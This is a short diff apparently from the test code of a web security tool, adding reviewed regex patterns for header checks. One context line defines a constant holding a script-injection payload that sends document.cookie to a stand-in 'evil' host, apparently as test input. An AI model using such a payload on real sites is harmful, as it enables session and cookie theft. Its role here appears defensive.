@@ -290,6 +290,12 @@ const REVIEWED_REGEXES = new Set([
   '/^GitHub\\.com$/i',
   '/^(co|com|net|org|gov|ac|edu|ne|or)\\.[a-z]{2}$/',
   '/\\.(test|localhost|local|internal|example|invalid|lan|home\\.arpa)$/',
+  // The one recommendation (src/core/fixes/recommend.ts, shared.ts): a single character class; anchored
+  // classes with a bounded count, on header names and values the engine already holds.
+  '/[:;(]/',
+  '/^[A-Za-z0-9*:/._-]{1,200}$/',
+  '/^[A-Za-z0-9*:/._, -]{1,200}$/',
+  '/^access-control-[a-z-]{1,40}$/i',
 ])
 
 const EVIL = "'+fetch('//evil/'+document.cookie)+'"
